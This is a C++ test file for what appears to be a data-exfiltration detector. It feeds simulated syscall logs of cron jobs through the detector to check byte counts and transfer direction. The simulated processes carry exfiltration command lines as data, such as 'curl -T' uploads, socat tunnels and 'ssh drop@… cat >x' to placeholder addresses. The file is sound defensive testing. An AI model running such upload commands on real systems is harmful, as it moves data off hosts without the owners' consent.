#include "host_with_cron.hpp"

/// Single lines of host and transfer that no other test would miss: each case goes red when one of
/// them is changed (a flag not looked at, an errno taken for another, a bound left out).
namespace auexfil::test {
namespace {

constexpr std::int64_t kMega = 1'000'000;

/// A curl of cron's, connected on 3.
int curl(CronHost& log) {
  const int pid = log.tool("/usr/bin/curl", {"curl", "-T", "f", "https://203.0.113.9/"});
  log.tcp(pid, 3, kDrop, 443);
  return pid;
}

std::uint64_t sent_to(const Log& log, const char* address) {
  std::uint64_t bytes = 0;
  for (const facts::Fact& fact : tell(log)) {
    const facts::Destination* const to = destination(fact, address);
    bytes += to != nullptr ? to->bytes_out.value_or(0) : 0;
  }
  return bytes;
}

}  // namespace

TEST_CASE("read: one that failed brings nothing") {
  CronHost log;
  const int pid = curl(log);
  log.write(pid, 3, 50'000);
  log.read(pid, 3, 100);
  log.read(pid, 3, -11);
  log.read(pid, 3, 0);
  log.done(pid);
  const facts::Fact fact = one(log);
  CHECK(fact.bytes_in == 100U);
  CHECK(fact.bytes_out == 50'000U);
}

TEST_CASE("recvmmsg: its exit counts messages, not bytes") {
  CronHost log;
  const int pid = curl(log);
  log.write(pid, 3, 50'000);
  log.read(pid, 3, 100);
  log.call(pid, "recvmmsg", 7, {3, 0x7f, 8});
  log.done(pid);
  CHECK(one(log).bytes_in == 100U);
}

TEST_CASE("a datagram that another peer sent is not the last one's") {
  CronHost log;
  const int pid = log.tool("/usr/bin/atftp", {"atftp", "-p", "-l", "f", kDrop});
  log.udp(pid, 3);
  log.sendto(pid, 3, 50'000, "203.0.113.8", 4000);
  log.sendto(pid, 3, 60'000, kDrop, 4001);
  log.call(pid, "recvfrom", 333, {3, 0x7f, 600}, {"SOCKADDR saddr=" + saddr("203.0.113.8", 4000)});
  log.done(pid);
  const facts::Fact fact = one(log);
  REQUIRE(destination(fact, "203.0.113.8") != nullptr);
  CHECK(destination(fact, "203.0.113.8")->bytes_in == 333U);
  CHECK(destination(fact, kDrop)->bytes_in.value_or(0) == 0U);
}

TEST_CASE("bulk over the port of a lookup is a transfer, lookups are none") {
  const int port = GENERATE(53, 853);
  CronHost log;
  const int pid = log.tool("/usr/bin/python3", {"python3", "up.py"});
  log.tcp(pid, 3, kDrop, port);
  const bool bulk = GENERATE(true, false);
  log.write(pid, 3, bulk ? 500 * kMega : 900);
  log.done(pid);
  CHECK(sent_to(log, kDrop) == (bulk ? 500U * kMega : 0U));
}

TEST_CASE("dup2 and dup3 put another file in a socket's place") {
  CronHost log;
  const int pid = curl(log);
  log.write(pid, 3, 5000);
  SECTION("one whose opening is not in the log") {
    log.dup2(pid, 7, 3);
  }
  SECTION("one that is known") {
    log.open(pid, 7, "/var/log/x");
    log.call(pid, "dup3", 3, {7, 3, 0});
  }
  log.write(pid, 3, 90'000'000);
  CHECK(sent_to(log, kDrop) == 5000);
}

TEST_CASE("dup3: O_CLOEXEC closes the copy at exec") {
  const bool flag = GENERATE(true, false);
  CronHost log;
  const int pid = curl(log);
  log.call(pid, "dup3", 10, {3, 10, flag ? 0x80000U : 0U});
  log.close(pid, 3);
  log.write(pid, 10, 5000);
  log.exec(pid, "/usr/bin/cat", {"cat"});
  log.write(pid, 10, 90'000);
  CHECK(sent_to(log, kDrop) == (flag ? 5000U : 95'000U));
}

TEST_CASE("accept4: SOCK_CLOEXEC closes the connection at exec") {
  const bool flag = GENERATE(true, false);
  CronHost log;
  const int pid = log.daemon(700, "/usr/sbin/served");
  log.socket(pid, 3);
  log.bind(pid, 3, "0.0.0.0", 7000);
  log.listen(pid, 3);
  log.call(pid, "accept4", 4, {3, 0x7f, 0x7f, flag ? 0x80000U : 0U},
           {"SOCKADDR saddr=" + saddr(kDrop, 40'000)});
  log.write(pid, 4, 5000);
  log.exec(pid, "/usr/bin/cat", {"cat"});
  log.write(pid, 4, 90'000);
  CHECK(sent_to(log, kDrop) == (flag ? 5000U : 95'000U));
}

TEST_CASE("close: the number is free after EINTR and EIO, not after EBADF") {
  struct Case {
    int exit;
    std::uint64_t sent;
  };
  const auto c = GENERATE(values<Case>({{0, 5000}, {-4, 5000}, {-5, 5000}, {-9, 95'000}}));
  CAPTURE(c.exit);
  CronHost log;
  const int pid = curl(log);
  log.write(pid, 3, 5000);
  log.call(pid, "close", c.exit, {3});
  log.write(pid, 3, 90'000);
  CHECK(sent_to(log, kDrop) == c.sent);
}

TEST_CASE("what a process connected last is not the next program's") {
  CronHost log;
  log.arch = kI386;
  const int pid = log.tool("/usr/bin/up32", {"up32"});
  log.call(pid, "socketcall", 3, {1, 0xff, 0});
  log.call(pid, "socketcall", 0, {3, 0xff, 0}, {"SOCKADDR saddr=" + saddr(kDrop, 9000)});
  SECTION("its execve is in the log") {
    log.exec(pid, "/usr/bin/other32", {"other32"});
  }
  SECTION("its execve was lost") {
    log.who(pid).exe = "/usr/bin/other32";
    log.who(pid).comm = "other32";
    log.socket(pid, 9);  // here it is noticed
  }
  log.call(pid, "socketcall", 120 * kMega, {9, 0xff, 0});
  CHECK(sent_to(log, kDrop) == 0);
}

TEST_CASE("a connection of the program before is not what an exec's next one gives away") {
  CronHost log;
  const int execs = GENERATE(0, 1, 2);
  const int pid = curl(log);
  if (execs == 1) {
    log.exec(pid, "/usr/bin/next", {"next"});
  } else if (execs == 2) {  // its execve was lost: the next socket tells
    log.who(pid).exe = "/usr/bin/next";
    log.socket(pid, 8, 1, 1);
  }
  log.call(pid, "sendmsg", 1, {9, 0x7f, 0});
  log.done(pid);
  bool is_noted = false;
  for (const facts::Fact& fact : tell(log)) {
    for (const std::string& note : fact.notes) {
      is_noted = is_noted || note.find("may have been passed") != std::string::npos;
    }
  }
  CHECK(is_noted == (execs == 0));
}

TEST_CASE("unshare and close_range take a table of one's own") {
  constexpr std::uint64_t kCloneFiles = 0x400;
  CronHost log;
  const int pid = curl(log);
  log.fork(pid, pid + 1, kCloneFiles | 17);
  log.write(pid + 1, 3, 5000);
  bool own = true;
  SECTION("unshare(CLONE_FILES)") {
    log.call(pid + 1, "unshare", 0, {kCloneFiles});
    log.close(pid + 1, 3);
  }
  SECTION("unshare of something else") {
    log.call(pid + 1, "unshare", 0, {0x20000});
    log.close(pid + 1, 3);
    own = false;
  }
  SECTION("close_range(CLOSE_RANGE_UNSHARE)") {
    log.call(pid + 1, "close_range", 0, {3, 0xffffffffU, 2});
  }
  SECTION("close_range of the shared table") {
    log.call(pid + 1, "close_range", 0, {3, 0xffffffffU, 0});
    own = false;
  }
  log.write(pid, 3, 90'000);
  CHECK(sent_to(log, kDrop) == (own ? 95'000U : 5000U));
}

TEST_CASE("splice: what comes out of a connection came in") {
  CronHost log;
  const int pid = curl(log);
  log.write(pid, 3, 50'000);
  log.read(pid, 3, 1);
  log.call(pid, "splice", 700, {3, 0, 9, 0});
  log.done(pid);
  CHECK(one(log).bytes_in == 701U);
  CHECK(one(log).bytes_out == 50'000U);
}

TEST_CASE("openat: O_CLOEXEC frees the number for what an exec leaves behind") {
  const bool flag = GENERATE(true, false);
  CronHost log;
  const int pid = log.tool("/usr/bin/curl", {"curl", "-T", "f", "https://203.0.113.9/"});
  log.call(pid, "openat", 3, {0xffffff9cU, 0x7f, flag ? 0x80000U : 0U});
  log.exec(pid, "/usr/bin/ssh", {"ssh", "drop@203.0.113.9"});
  log.write(pid, 3, 200 * kMega);
  std::uint64_t bytes = 0;
  for (const facts::Fact& fact : tell(log)) {
    bytes += fact.bytes_out.value_or(0);
  }
  bytes += tell_host(log.text()).builder->unattributed().total();
  CHECK((bytes >= 200U * kMega) == flag);
}

TEST_CASE("ioctl: FIOCLEX and FIONCLEX set and take back close-on-exec") {
  struct Case {
    std::vector<std::uint64_t> requests;
    std::uint64_t sent;
  };
  const auto c = GENERATE(values<Case>({{{0x5451}, 5000},
                                        {{0x5451, 0x5450}, 95'000},
                                        {{0x5450, 0x5451}, 5000},
                                        {{0x5401}, 95'000}}));  // TCGETS is neither
  CronHost log;
  const int pid = curl(log);
  log.write(pid, 3, 5000);
  for (const std::uint64_t request : c.requests) {
    log.call(pid, "ioctl", 0, {3, request});
  }
  log.exec(pid, "/usr/bin/cat", {"cat"});
  log.write(pid, 3, 90'000);
  CHECK(sent_to(log, kDrop) == c.sent);
}

TEST_CASE("a tunnel that carries as much in as out goes both ways") {
  struct Case {
    std::int64_t out;
    std::int64_t in;
    transfer::Direction direction;
  };
  using transfer::Direction;
  const auto c = GENERATE(values<Case>({{80 * kMega, 100 * kMega, Direction::both},
                                        {100 * kMega, 20 * kMega, Direction::both},
                                        {100 * kMega, 5 * kMega, Direction::out},
                                        {kMega, 100 * kMega, Direction::in}}));
  CAPTURE(c.out, c.in);
  CronHost log;
  const int pid = log.tool("/usr/bin/socat", {"socat", "-", "TCP:203.0.113.9:9000"});
  log.tcp(pid, 3, kDrop, 9000);
  log.write(pid, 3, 41);
  log.write(pid, 3, c.out);
  log.read(pid, 3, c.in);
  log.done(pid);
  CHECK(one(log).direction == c.direction);
}

TEST_CASE("what another program sent over a connection that may be given away is a lower bound") {
  CronHost log;
  const bool gives = GENERATE(true, false);
  const int pid = curl(log);
  if (gives) {
    log.call(pid, "sendmsg", 1, {9, 0x7f, 0});
  }
  log.run(pid, pid + 1, "/usr/bin/next", {"next"});
  log.upload(pid + 1, 3, 50 * kMega, 10 * kMega);
  log.read(pid + 1, 3, 100);
  log.done(pid + 1);
  log.done(pid);
  const facts::Fact fact = one(log);
  CHECK(fact.bytes_out == 50U * kMega);
  CHECK(fact.basis == (gives ? transfer::Basis::at_least : transfer::Basis::measured));
}

TEST_CASE("a download that sends more than any download does is left open") {
  const std::int64_t out = GENERATE(kMega, 100 * kMega);
  CronHost log("", all_but({"read"}));
  const int pid = log.tool("/usr/bin/curl", {"curl", "-o", "f", "https://203.0.113.9/f"});
  log.tcp(pid, 3, kDrop, 443);
  log.write(pid, 3, 41);
  log.write(pid, 3, out);
  log.done(pid);
  CHECK(one(log).direction ==
        (out == kMega ? transfer::Direction::in : transfer::Direction::unknown));
}

TEST_CASE("a script is the file that execve was given, whatever its interpreter") {
  CronHost log;
  const int pid = log.job("/opt/x.awk");
  log.exec(pid, "/usr/bin/mawk", {"/usr/bin/awk", "-f", "/opt/x.awk"}, "/opt/x.awk");
  log.tcp(pid, 3, kDrop, 443);
  log.write(pid, 3, 50'000);
  log.done(pid);
  CHECK(one(log).script == "/opt/x.awk");
}

TEST_CASE("a number whose opening is unseen goes nowhere if its command line names this host") {
  const bool here = GENERATE(true, false);
  CronHost log;
  log.there(700, 1, "/usr/bin/ssh");
  log.who(700).title = {"ssh", here ? "drop@127.0.0.1" : "drop@203.0.113.9", "cat >x"};
  log.write(700, 3, 200 * kMega);
  CHECK(tell(log).size() == (here ? 0U : 1U));
}

}  // namespace auexfil::test
